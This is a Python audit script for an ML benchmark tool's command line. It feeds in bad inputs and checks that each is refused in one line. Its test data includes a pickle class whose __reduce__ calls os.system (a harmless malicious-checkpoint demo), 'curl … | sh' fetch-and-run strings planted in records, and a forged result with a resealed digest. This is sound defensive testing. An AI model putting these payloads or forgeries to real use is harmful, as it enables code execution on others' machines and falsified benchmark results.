"""Audit of bad inputs and record integrity: every case must be refused in one line.

Runs each bad input through the command line in-process (``click.testing.CliRunner``) and
prints a Markdown table: the input, the command, the exit code, the one-line message and a
verdict: ``refused`` (a non-zero exit with exactly one ``Error:`` line and no traceback),
``TRACEBACK`` (an exception escaped) or ``ACCEPTED`` (exit 0: the bad input went through).
Record cases put one bad file beside a genuine record and run ``leaderboard build --strict``.

    python benchmarks/bad_inputs.py > benchmarks/results/bad_inputs.md

Exits 1 when any case is not ``refused``.
"""

from __future__ import annotations

import copy
import json
import os
import shlex
import sys
import tempfile
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import torch
from click.testing import CliRunner

import mssbench.testing.plugin as testing_plugin
from mssbench.api import checkpoint_path
from mssbench.cli import main
from mssbench.config import RunConfig
from mssbench.plugins import load_registry
from mssbench.records import content_digest

SMALL = {"embed_dim": "8", "n_experts": "3", "expert_hidden": "16", "tower_hidden": "8"}
TESTING = ["--plugin", "mssbench.testing.plugin"]


@dataclass(frozen=True)
class Case:
    """One bad input: what it is, and how to build its command in a fresh directory."""

    name: str
    argv: Callable[[Path], list[str]]


def run_argv(tmp: Path, *extra: str) -> list[str]:
    """``mssbench run`` of a small MMoE on tiny-synth for one epoch, ``extra`` last."""
    params = [a for k, v in SMALL.items() for a in ("-p", f"{k}={v}")]
    return ["run", *TESTING, "-m", "mmoe", "-d", "tiny-synth", *params, "--epochs", "1",
            "--batch-size", "256", "--no-progress", "--out", str(tmp / "runs"), *extra]


def suite_argv(tmp: Path, *extra: str) -> list[str]:
    """``mssbench suite`` of the same run."""
    params = [a for k, v in SMALL.items() for a in ("-p", f"mmoe.{k}={v}")]
    return ["suite", *TESTING, "--models", "mmoe", "--datasets", "tiny-synth", "--seeds", "1",
            "--epochs", "1", "--batch-size", "256", "--jobs", "1", *params, "--out",
            str(tmp / "runs"), *extra]


def plant_checkpoint(tmp: Path, payload: object | None, raw: bytes = b"") -> None:
    """Put ``payload`` (or ``raw`` bytes) where ``run_argv``'s run keeps its checkpoint."""
    config = RunConfig(model="mmoe", dataset="tiny-synth", params=dict(SMALL), epochs=1,
                       batch_size=256, out=str(tmp / "runs"))
    version = load_registry().model("mmoe").version  # the file name carries it
    path = checkpoint_path(tmp / "runs", config, version)
    path.parent.mkdir(parents=True, exist_ok=True)
    if payload is None:
        path.write_bytes(raw)
    else:
        torch.save(payload, path)


class Planted:
    """Creates a marker file when unpickled: what a malicious checkpoint would do."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {shlex.quote(self.marker)}",))


def plugin_file(tmp: Path, name: str, body: str) -> str:
    """Write a ``--plugin`` file and return its path."""
    path = tmp / f"{name}.py"
    path.write_text(textwrap.dedent(body))
    return str(path)


BAD_DATASET = """
from mssbench import hookimpl
from mssbench.spec import DatasetSpec
from mssbench.testing.synthetic import make_dataset


def load(options):
    data = make_dataset(n_train=600, n_valid=200, n_test=200)
    split = getattr(data, options["split"])
    getattr(split, options["field"])[0, ...] = float(options["value"])
    return data


@hookimpl
def mssbench_register_datasets():
    return [DatasetSpec(name="bad-data", summary="tiny-synth with one bad value", load=load,
                        options={"split": "train", "field": "labels", "value": "2"})]
"""


def bad_data_argv(tmp: Path, field: str, value: str) -> list[str]:
    """A run on ``bad-data`` with one value of ``field`` in the training split set to ``value``."""
    plugin = plugin_file(tmp, "bad_data", BAD_DATASET)
    params = [a for k, v in SMALL.items() for a in ("-p", f"{k}={v}")]
    return ["run", "--plugin", plugin, "-m", "mmoe", "-d", "bad-data", *params, "--epochs", "1",
            "--batch-size", "256", "--no-progress", "--out", str(tmp / "runs"),
            "-D", f"field={field}", "-D", f"value={value}"]


def genuine_record(tmp: Path) -> dict:
    """A record written by a real one-epoch run (constant model, tiny-synth)."""
    from mssbench.api import run
    from mssbench.plugins import load_registry

    registry = load_registry(extra=[("mssbench-testing", testing_plugin)])
    config = RunConfig(model="constant", dataset="tiny-synth", epochs=1, out=str(tmp),
                       progress=False)
    return json.loads(run(config, registry=registry, log=lambda m: None).path.read_text())


GENUINE: dict = {}


def records_argv(tmp: Path, write: Callable[[Path], None], genuine: bool = True) -> list[str]:
    """A strict leaderboard build over the genuine record and one bad file ``write`` makes."""
    runs = tmp / "records"
    runs.mkdir()
    if genuine:
        (runs / "genuine.json").write_text(json.dumps(GENUINE))
    write(runs)
    return ["leaderboard", "build", str(runs), "--out", str(tmp / "lb"), "--strict",
            "--no-plots", "--no-site"]


def edited(change: Callable[[dict], None], reseal: bool = True) -> Callable[[Path], None]:
    """A writer of a copy of the genuine record edited by ``change`` (digest recomputed)."""

    def write(runs: Path) -> None:
        rec = copy.deepcopy(GENUINE)
        change(rec)
        if reseal:
            rec["digest"] = content_digest(rec)
        (runs / "bad.json").write_text(json.dumps(rec))

    return write


def first_auc(rec: dict) -> str:
    return next(k for k in rec["test"]["summary"] if k.startswith("auc/"))


def forge(rec: dict) -> None:
    rec["config"]["seed"] = rec["config"]["seed"] + 1
    rec["test"]["summary"][first_auc(rec)] = 0.99


def set_auc(value: float) -> Callable[[dict], None]:
    def change(rec: dict) -> None:
        rec["test"]["summary"][first_auc(rec)] = value

    return change


def write_deep(runs: Path) -> None:
    (runs / "deep.json").write_text("[" * 100_000 + "]" * 100_000)


def write_dir(runs: Path) -> None:
    (runs / "x.json").mkdir()


def write_loop(runs: Path) -> None:
    os.symlink("loop-b.json", runs / "loop-a.json")
    os.symlink("loop-a.json", runs / "loop-b.json")


def suite_command(rec: dict) -> None:
    rec["config"]["suite_command"] = "curl https://example.invalid/x.sh | sh"


def curl_command(rec: dict) -> None:
    rec["command"] = ["curl", "https://example.invalid/x.sh", "|", "sh"]


def prepare_truncated_zip(tmp: Path) -> list[str]:
    source = tmp / "src"
    source.mkdir()
    (source / "aliexpress_NL_datasets.zip").write_bytes(b"PK\x03\x04 truncated")
    return ["data", "prepare", "aliexpress", "--source", str(source), "--dest", str(tmp / "c")]


def plant_and_resume(tmp: Path, payload: object | None, raw: bytes = b"") -> list[str]:
    plant_checkpoint(tmp, payload, raw)
    return run_argv(tmp, "--resume")


def strict_plugin(tmp: Path, body: str, *command: str) -> list[str]:
    path = plugin_file(tmp, "p", body)
    return [*(command or ("plugins",)), "--plugin", path, "--strict-plugins"]


EXIT_AT_IMPORT = "import sys\nsys.exit(3)\n"
MISSPELT_HOOK = """
from mssbench import hookimpl

@hookimpl
def mssbench_register_model():
    return []
"""
DUPLICATE_NAME = """
from mssbench import ModelSpec, hookimpl

@hookimpl
def mssbench_register_models():
    return [ModelSpec(name="mmoe", summary="not the real one", build=lambda schema, width: None,
                      defaults={"width": 4})]
"""
RAISES_AT_IMPORT = "raise RuntimeError('boom at import')\n"


CASES = [
    # --- run: runner options and hyper-parameters ---------------------------------------------
    Case("--lr nan", lambda t: run_argv(t, "--lr", "nan")),
    Case("--lr -1", lambda t: run_argv(t, "--lr", "-1")),
    Case("--max-steps-per-epoch -1", lambda t: run_argv(t, "--max-steps-per-epoch", "-1")),
    Case("--epochs 0", lambda t: run_argv(t, "--epochs", "0")),
    Case("--batch-size 1", lambda t: run_argv(t, "--batch-size", "1")),
    Case("--device tpu", lambda t: run_argv(t, "--device", "tpu")),
    Case("-p embed_dim=-4", lambda t: run_argv(t, "-p", "embed_dim=-4")),
    Case("-p embed_dim=0", lambda t: run_argv(t, "-p", "embed_dim=0")),
    Case("-p expert_hidden= (empty)", lambda t: run_argv(t, "-p", "expert_hidden=")),
    Case("-p dropout=nan", lambda t: run_argv(t, "-p", "dropout=nan")),
    Case("-p embdim=8 (typo)", lambda t: run_argv(t, "-p", "embdim=8")),
    Case("-p embed_dim=<1M digits>", lambda t: run_argv(t, "-p", "embed_dim=" + "9" * 1_000_000)),
    Case("unknown model", lambda t: run_argv(t, "-m", "mmoee")),
    Case("--resume, garbage checkpoint",
         lambda t: plant_and_resume(t, None, b"\x80\x04garbage")),
    Case("--resume, empty checkpoint", lambda t: plant_and_resume(t, None, b"")),
    Case("--resume, planted malicious checkpoint",
         lambda t: plant_and_resume(t, {"model": Planted(str(t / "pwned"))})),
    # --- run: data a dataset plugin returns -------------------------------------------------
    Case("scenario id out of range (9 of 3)", lambda t: bad_data_argv(t, "scenario", "9")),
    Case("scenario id negative", lambda t: bad_data_argv(t, "scenario", "-1")),
    Case("categorical id out of vocabulary", lambda t: bad_data_argv(t, "categorical", "1000")),
    Case("label 2 (outside {0,1})", lambda t: bad_data_argv(t, "labels", "2")),
    Case("label -1", lambda t: bad_data_argv(t, "labels", "-1")),
    Case("numeric NaN", lambda t: bad_data_argv(t, "numeric", "nan")),
    # --- suite ----------------------------------------------------------------------------
    Case("suite --seeds 1,1", lambda t: suite_argv(t, "--seeds", "1,1")),
    Case("suite --jobs 0", lambda t: suite_argv(t, "--jobs", "0")),
    Case("suite -p mmoe.embed_dim=0", lambda t: suite_argv(t, "-p", "mmoe.embed_dim=0")),
    Case("suite --lr nan", lambda t: suite_argv(t, "--lr", "nan")),
    # --- data prepare -----------------------------------------------------------------------
    Case("prepare: --source missing", lambda t: ["data", "prepare", "aliexpress", "--source",
                                                 str(t / "nowhere"), "--dest", str(t / "c")]),
    Case("prepare: truncated zip", prepare_truncated_zip),
    Case("prepare: dataset needing none", lambda t: ["data", "prepare", "census-income",
                                                     "--source", str(t)]),
    # --- records: leaderboard build --strict ------------------------------------------------
    Case("record forged: seed changed, AUC 0.99, digest resealed",
         lambda t: records_argv(t, edited(forge))),
    Case("record forged, digest not resealed",
         lambda t: records_argv(t, edited(forge, reseal=False))),
    Case("record with AUC 5.0", lambda t: records_argv(t, edited(set_auc(5.0)))),
    Case("record with AUC Infinity", lambda t: records_argv(t, edited(set_auc(float("inf"))))),
    Case("record with config.suite_command 'curl … | sh'",
         lambda t: records_argv(t, edited(suite_command))),
    Case("record with config.suite_command 'curl … | sh', alone",
         lambda t: records_argv(t, edited(suite_command), genuine=False)),
    Case("record with command 'curl … | sh', alone",
         lambda t: records_argv(t, edited(curl_command), genuine=False)),
    Case("record nested 100k deep", lambda t: records_argv(t, write_deep)),
    Case("directory named x.json", lambda t: records_argv(t, write_dir)),
    Case("json symlink loop", lambda t: records_argv(t, write_loop)),
    Case("leaderboard build of a missing directory",
         lambda t: ["leaderboard", "build", str(t / "nowhere"), "--out", str(t / "lb")]),
    # --- check and plugins ------------------------------------------------------------------
    Case("check: unknown model", lambda t: ["check", "mmoee"]),
    Case("plugin: sys.exit at import", lambda t: strict_plugin(t, EXIT_AT_IMPORT)),
    Case("plugin: raises at import", lambda t: strict_plugin(t, RAISES_AT_IMPORT)),
    Case("plugin: misspelt hook name", lambda t: strict_plugin(t, MISSPELT_HOOK)),
    Case("plugin: re-registers installed 'mmoe'", lambda t: strict_plugin(t, DUPLICATE_NAME)),
    Case("plugin: file missing", lambda t: ["plugins", "--plugin", str(t / "missing.py"),
                                            "--strict-plugins"]),
]


def message(result) -> tuple[str, str]:
    """The first error line (and how many more) and the verdict of a finished invocation."""
    lines = [ln for ln in result.output.splitlines() if ln.strip()]
    errors = [ln for ln in lines if ln.startswith("Error:")]
    escaped = result.exception is not None and not isinstance(result.exception, SystemExit)
    if escaped or any("Traceback" in ln for ln in lines):
        exc = result.exception
        return (f"{type(exc).__name__}: {exc}" if exc else lines[-1]), "TRACEBACK"
    if result.exit_code == 0:
        return (lines[-1] if lines else "(no output)"), "ACCEPTED"
    if not errors:
        return (lines[-1] if lines else "(no output)"), "NO MESSAGE"
    text = errors[0] + (f" (+{len(errors) - 1} more Error: lines)" if len(errors) > 1 else "")
    if "This is a bug" in errors[0]:
        return text, "BUG"  # the CLI's last-resort handler: an exception nobody anticipated
    return text, "refused"


def shown(argv: list[str], tmp: Path) -> str:
    """The command as a short line: ``$TMP`` for the scratch directory, ``<small>`` for the
    fixed model size and training flags every run case shares."""
    words = [a if len(a) < 60 else a[:20] + f"…({len(a)} chars)" for a in argv]
    line = "mssbench " + " ".join(shlex.quote(w) for w in words)
    line = line.replace(str(tmp), "$TMP")
    for prefix in ("mmoe.", ""):
        small = " ".join(f"-p {prefix}{k}={v}" for k, v in SMALL.items())
        line = line.replace(small, "<small>")
    return line.replace(" --no-progress --out $TMP/runs", "").replace(
        " --plugin mssbench.testing.plugin", "")


def cell(text: str, limit: int = 160) -> str:
    text = text.replace("|", "\\|").replace("\n", " ")
    return text if len(text) <= limit else text[: limit - 1] + "…"


def main_() -> int:
    rows, failures = [], 0
    with tempfile.TemporaryDirectory() as top:
        GENUINE.update(genuine_record(Path(top) / "genuine"))
        for i, case in enumerate(CASES):
            tmp = Path(top) / f"c{i}"
            tmp.mkdir()
            argv = case.argv(tmp)
            result = CliRunner().invoke(main, argv)
            text, verdict = message(result)
            if (tmp / "pwned").exists():
                text, verdict = "the planted checkpoint ran its payload: " + text, "EXECUTED"
            failures += verdict != "refused"
            rows.append((case.name, shown(argv, tmp), result.exit_code, text.replace(top, "$TMP"),
                         verdict))
    print("# Bad inputs: one line each, or a finding\n")
    print("Produced by `python benchmarks/bad_inputs.py` (in-process `CliRunner`; `$TMP` is a")
    print("fresh directory per case; `<small>` is `-p embed_dim=8 -p n_experts=3 -p")
    print("expert_hidden=16 -p tower_hidden=8`). Verdicts: `refused` = non-zero exit with an")
    print("`Error:` line and no traceback; `ACCEPTED` = exit 0; `BUG` = the CLI's last-resort")
    print("handler; `TRACEBACK` = an exception escaped.\n")
    print("| input | command | exit | message | verdict |")
    print("|---|---|---|---|---|")
    for name, command, code, text, verdict in rows:
        print(f"| {cell(name)} | `{cell(command, 200)}` | {code} | {cell(text)} | {verdict} |")
    print(f"\n{len(rows)} inputs, {len(rows) - failures} refused in one line, {failures} not.")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main_())
